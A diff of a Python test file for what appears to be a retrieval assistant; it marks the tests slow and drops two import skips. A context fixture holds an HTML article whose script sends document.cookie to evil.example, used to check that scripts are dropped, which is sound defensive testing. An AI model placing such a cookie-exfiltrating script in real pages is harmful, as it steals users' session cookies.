@@ -15,6 +15,8 @@ from tests.openai_stub import OpenAIStub, Reply, cite_where, passage_numbers
 
 from .conftest import Sandbox
 
+pytestmark = pytest.mark.slow  # every test here runs the real engine on a copy of the baseline index
+
 HTML_ARTICLE = """<!doctype html>
 <html><head><title>Kino</title>
 <script>document.write('SCRIPTLEAK-1'); fetch('http://evil.example/?c=' + document.cookie);</script>
@@ -65,7 +67,6 @@ def test_html_article_scripts_are_dropped_never_run(sandbox: Sandbox) -> None:
 
 def test_markup_in_a_text_article_is_shown_escaped(sandbox: Sandbox) -> None:
     """Text that looks like HTML is quoted as text: the page and Slack show it, never render it."""
-    pytest.importorskip("gradio")
     from ui.html import render_answer, render_sources
     from ui.slack_format import answer_message
 
@@ -116,7 +117,6 @@ def stub(monkeypatch: pytest.MonkeyPatch) -> Iterator[OpenAIStub]:
 
 
 def _llm_bot(sandbox: Sandbox, stub: OpenAIStub):
-    pytest.importorskip("langchain_openai")
     from rag.assistant import Assistant
 
     return Assistant(
